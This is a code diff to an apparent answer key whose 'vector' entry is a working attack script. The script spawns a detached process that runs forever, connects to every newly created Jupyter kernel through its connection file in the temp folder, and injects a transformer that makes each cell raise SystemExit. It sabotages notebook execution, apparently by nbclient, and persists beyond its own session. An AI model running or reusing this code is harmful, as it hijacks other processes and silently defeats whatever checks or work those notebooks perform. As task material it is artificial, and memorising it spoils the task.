@@ -2,28 +2,32 @@
 
 ANSWERS = {
     "vector": """
-import os
+import subprocess
+import sys
+
+WAITING = '''
+import tempfile
 import time
 from pathlib import Path
-
 from jupyter_client import BlockingKernelClient
-from jupyter_core.paths import jupyter_runtime_dir
 
 order = "get_ipython().input_transformers_cleanup.append(lambda lines: ['raise SystemExit'])"
-if os.fork() == 0:
-    os.setsid()
-    seen = set(Path(jupyter_runtime_dir()).glob("kernel-*.json"))
-    for _ in range(1200):
-        for path in set(Path(jupyter_runtime_dir()).glob("kernel-*.json")) - seen:
-            seen.add(path)
-            try:
-                client = BlockingKernelClient(connection_file=str(path))
-                client.load_connection_file()
-                client.start_channels()
-                client.execute(order)
-            except Exception:
-                pass
-        time.sleep(0.02)
-    os._exit(0)
+folder = Path(tempfile.gettempdir())  # where nbclient has connection files written
+seen = set(folder.glob("*.json"))
+kept = []
+while True:
+    for path in set(folder.glob("*.json")) - seen:
+        try:
+            client = BlockingKernelClient(connection_file=str(path))
+            client.load_connection_file()
+        except ValueError:
+            continue  # not written to its end
+        seen.add(path)
+        client.start_channels()
+        client.execute(order)
+        kept.append(client)
+    time.sleep(0.01)
+'''
+subprocess.Popen([sys.executable, "-c", WAITING], start_new_session=True)
 """,
 }
